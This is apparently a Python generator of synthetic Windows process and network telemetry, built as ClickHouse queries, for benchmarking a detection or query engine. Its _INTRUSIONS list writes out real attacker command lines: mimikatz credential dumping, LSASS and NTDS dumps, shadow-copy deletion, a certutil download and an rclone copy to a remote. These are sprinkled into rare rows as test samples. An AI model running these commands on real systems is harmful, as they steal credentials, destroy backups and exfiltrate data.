"""Rows by the million, made inside the engine: each row is a hash of its number, so that every run measures the same rows.

What the questions ask for is spread as real telemetry has it: few programs make most of the rows, a long tail of hashes occurs once or
twice, the tools of intruders are one row in ten thousand, and tenants and devices differ in size.
"""

from datetime import datetime
from string import Template
from typing import Final

DAYS: Final = 30
DEVICES: Final = 200
"""Of each tenant."""

_COMMON: Final = (
    "svchost.exe", "chrome.exe", "msedge.exe", "conhost.exe", "cmd.exe", "powershell.exe", "taskhostw.exe", "RuntimeBroker.exe",
    "backgroundTaskHost.exe", "dllhost.exe", "WmiPrvSE.exe", "SearchProtocolHost.exe", "MsMpEng.exe", "git.exe", "Teams.exe", "OUTLOOK.EXE",
    "EXCEL.EXE", "WINWORD.EXE", "explorer.exe", "rundll32.exe", "wsl.exe", "node.exe", "python.exe", "java.exe", "sc.exe", "net.exe",
    "reg.exe", "schtasks.exe", "tasklist.exe", "ipconfig.exe", "msiexec.exe", "regsvr32.exe", "ping.exe", "sihost.exe", "ctfmon.exe",
    "smartscreen.exe", "OneDrive.exe", "Slack.exe", "Code.exe", "ssh.exe",
)  # fmt: skip
_FOLDERS: Final = (
    r"C:\Windows\System32", r"C:\Program Files\Google\Chrome\Application", r"C:\Program Files (x86)\Microsoft\Edge\Application",
    r"C:\Windows\System32\wbem", r"C:\Program Files\Git\cmd", r"C:\ProgramData\Package Cache\tools",
    r"C:\Program Files\Microsoft Office\root", r"C:\Windows\SysWOW64",
    r"C:\Users\$user\AppData\Local\Programs", r"C:\Users\$user\AppData\Local\Temp",
)  # fmt: skip
_COMMANDS: Final = (
    r'"$path" --type=renderer --lang=en-US --field-trial-handle=$a,$b,1234 --enable-features=Sandbox,Prefetch --instance=$c /prefetch:1',
    r"$file -k netsvcs -p -s Schedule",
    r'"$path" /c "C:\ProgramData\ops\update_$a.bat" --quiet --host srv$b.corp.example',
    r"$file -NoProfile -ExecutionPolicy Bypass -File C:\ops\jobs\job_$a.ps1 -Retry $b -Log C:\ops\log\$c.txt",
    r'"$path" -Embedding',
    r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    r'"$path" --app-session=$c --crash-handler-pid=$a --user-data-dir="C:\Users\$user\AppData\Local\Data"',
    r"$file status --porcelain -uall --ignored=no C:\src\project$a",
)  # fmt: skip
_INTRUSIONS: Final = (
    r"powershell.exe -nop -w hidden -EncodedCommand $blob",
    r"powershell -ep bypass -enc $blob",
    r'ntdsutil "ac i ntds" "ifm" "create full C:\Users\Public\d$a" q q',
    r"vssadmin delete shadows /all /quiet",
    r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $a C:\Users\Public\l.dmp full",
    r'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
    r"nltest /domain_trusts /all_trusts",
    r"rclone.exe copy \\srv$a\share remote:backup --transfers 12",
    r"certutil -urlcache -split -f http://203.0.113.$c/a.bin C:\Users\Public\a.bin",
    r"psexec \\srv$a -s cmd.exe /c whoami",
)

_PROCESSES: Final = Template(r"""
WITH
  number AS n, sipHash64(n) AS h, sipHash64(n, 1) AS g, sipHash64(n, 2) AS k,
  $tenants AS tenants, $common AS names, $folders AS folders,
  toUInt32(pow((h % 65536) / 65536, 2.2) * length(tenants)) AS t,
  toUInt32(pow((g % 65536) / 65536, 1.4) * $devices) AS d,
  intDiv(g, 65536) % 100 < 70 ? toUInt32(pow((k % 65536) / 65536, 3) * 40) : 40 AS p,
  toUInt32(pow((intDiv(k, 65536) % 1048576) / 1048576, 4) * 20000) AS tail,
  p < 40 ? names[p + 1] : concat('app', toString(tail), '.exe') AS file,
  concat('user', toString(d)) AS account,
  replaceOne(p < 40 ? folders[1 + (p * 7 + p % 3) % 8] : folders[1 + tail % 10], '$$user', account) AS folder,
  intDiv(h, 65536) % 10000 = 0 ? 1 : 0 AS evil,
  concat(folder, '\\', file) AS path,
  toString(intDiv(h, 7) % 9000 + 1000) AS a, toString(intDiv(g, 11) % 900 + 100) AS b, toString(intDiv(k, 13) % 250) AS c,
  evil ? $intrusions[1 + (k % $intrusion_count)] : $commands[1 + (p < 40 ? p + k % 3 : tail) % $command_count] AS shape,
  replaceOne(replaceOne(replaceOne(shape, '$$a', a), '$$b', b), '$$c', c) AS numbered,
  replaceAll(replaceOne(replaceOne(numbered, '$$path', path), '$$file', file), '$$user', account) AS half,
  evil ? replaceOne(half, '$$blob', concat(base64Encode(concat(hex(h), hex(g), hex(k), hex(h))), '==')) : half AS command,
  toUInt32(k % 7) AS parent,
  names[1 + parent] AS parent_file,
  concat(file, p < 40 ? toString(t % 4) : toString(intDiv(h, 97) % 3), intDiv(h, 31) % 20000 = 0 ? toString(n) : '') AS build
SELECT
  tenants[t + 1] AS `_TenantId`, $moment AS `_IngestionTime`, 'bench' AS `_Source`,
  $moment AS Timestamp,
  lower(concat(hex(sipHash64(t, d)), hex(sipHash64(d, t, 1)), '00000000')) AS DeviceId,
  concat('pc', toString(d), '.tenant', toString(t), '.example') AS DeviceName,
  'ProcessCreated' AS ActionType, file AS FileName, path AS FolderPath,
  lower(hex(SHA1(build))) AS SHA1, lower(hex(SHA256(build))) AS SHA256, lower(hex(MD5(build))) AS MD5,
  toInt64(10000 + cityHash64(build) % 5000000) AS FileSize, concat('Company ', toString(p)) AS ProcessVersionInfoCompanyName,
  toInt64(n % 60000) AS ProcessId, command AS ProcessCommandLine, ['Medium', 'High', 'System', 'Low'][1 + k % 4] AS ProcessIntegrityLevel,
  concat('CORP', toString(t)) AS AccountDomain, account AS AccountName,
  concat('S-1-5-21-', toString(t), '-', toString(1000 + d)) AS AccountSid,
  concat(account, '@tenant', toString(t), '.example') AS AccountUpn,
  concat('CORP', toString(t)) AS InitiatingProcessAccountDomain, account AS InitiatingProcessAccountName,
  lower(hex(SHA1(parent_file))) AS InitiatingProcessSHA1, lower(hex(SHA256(parent_file))) AS InitiatingProcessSHA256,
  parent_file AS InitiatingProcessFileName, toInt64(k % 60000) AS InitiatingProcessId,
  concat('"C:\\Windows\\System32\\', parent_file, '" -p ', b) AS InitiatingProcessCommandLine,
  concat('C:\\Windows\\System32\\', parent_file) AS InitiatingProcessFolderPath,
  names[1 + k % 3] AS InitiatingProcessParentFileName, toInt64(n) AS ReportId,
  concat('{"TaskName":"\\\\Ops\\\\Task', toString(tail % 300), '","Attempts":', c, ',"Elevated":', k % 2 ? 'true' : 'false', '}')
    AS AdditionalFields
FROM numbers($first, $count)
""")
_CONNECTIONS: Final = Template(r"""
WITH
  number AS n, sipHash64(n, 3) AS h, sipHash64(n, 4) AS g, sipHash64(n, 5) AS k,
  $tenants AS tenants, $common AS names,
  toUInt32(pow((h % 65536) / 65536, 2.2) * length(tenants)) AS t,
  toUInt32(pow((g % 65536) / 65536, 1.4) * $devices) AS d,
  toUInt32(pow((k % 65536) / 65536, 3) * 40) AS p, names[p + 1] AS file,
  concat('user', toString(d)) AS account,
  toUInt32(pow((intDiv(k, 65536) % 1048576) / 1048576, 4) * 20000) AS site
SELECT
  tenants[t + 1] AS `_TenantId`, $moment AS `_IngestionTime`, 'bench' AS `_Source`,
  $moment AS Timestamp,
  lower(concat(hex(sipHash64(t, d)), hex(sipHash64(d, t, 1)), '00000000')) AS DeviceId,
  concat('pc', toString(d), '.tenant', toString(t), '.example') AS DeviceName,
  ['ConnectionSuccess', 'ConnectionFailed', 'InboundConnectionAccepted', 'DnsConnectionInspected'][1 + g % 4] AS ActionType,
  IPv4NumToString(toUInt32(sipHash64(site))) AS RemoteIP, [443, 443, 443, 80, 53, 445, 3389, 8080][1 + intDiv(g, 5) % 8] AS RemotePort,
  concat('https://cdn', toString(site % 40), '.site', toString(site), '.example/', hex(h % 65536)) AS RemoteUrl,
  concat('10.', toString(t), '.', toString(intDiv(d, 250)), '.', toString(d % 250)) AS LocalIP, toInt32(1024 + g % 60000) AS LocalPort,
  'Tcp' AS Protocol, lower(hex(SHA1(file))) AS InitiatingProcessSHA1, lower(hex(SHA256(file))) AS InitiatingProcessSHA256,
  file AS InitiatingProcessFileName, toInt64(h % 60000) AS InitiatingProcessId,
  concat('"C:\\Windows\\System32\\', file, '" -p ', toString(g % 1000)) AS InitiatingProcessCommandLine,
  concat('C:\\Windows\\System32\\', file) AS InitiatingProcessFolderPath,
  concat('CORP', toString(t)) AS InitiatingProcessAccountDomain, account AS InitiatingProcessAccountName, toInt64(n) AS ReportId
FROM numbers($first, $count)
""")
_SELECTS: Final = {"DeviceProcessEvents": _PROCESSES, "DeviceNetworkEvents": _CONNECTIONS}
TABLES: Final = tuple(_SELECTS)


def filling(table: str, tenants: tuple[str, ...], until: datetime, *, first: int, count: int, total: int) -> str:
    """Return the INSERT of `count` of the `total` rows of a table, from row `first` on; they end at `until`, in the order of time."""
    ticks = DAYS * 86_400 * 10_000_000
    start = int(until.timestamp()) * 10_000_000 - ticks
    moment = f"reinterpret(toInt64({start} + intDiv(toInt128(n) * {ticks}, {total}) + h % 10000), 'DateTime64(7, \\'UTC\\')')"
    select = _SELECTS[table].substitute(
        tenants=_array(tenants), common=_array(_COMMON), folders=_array(_FOLDERS), commands=_array(_COMMANDS),
        command_count=len(_COMMANDS), intrusions=_array(_INTRUSIONS), intrusion_count=len(_INTRUSIONS), devices=DEVICES, moment=moment,
        first=first, count=count,
    )  # fmt: skip
    return f"INSERT INTO {table} ({', '.join(f'`{name}`' for name in columns_of(table))}) {select}"


def columns_of(table: str) -> list[str]:
    """Return the columns that are filled; each stands as `AS Name` behind the SELECT."""
    found = _SELECTS[table].template.split("\nSELECT\n")[1].split("\nFROM ")[0].split("AS ")[1:]
    return [part.split(",")[0].split("\n")[0].strip().strip("`") for part in found]


def _array(texts: tuple[str, ...]) -> str:
    quoted = (text.replace("\\", "\\\\").replace("'", "\\'") for text in texts)
    return "[" + ", ".join(f"'{text}'" for text in quoted) + "]"
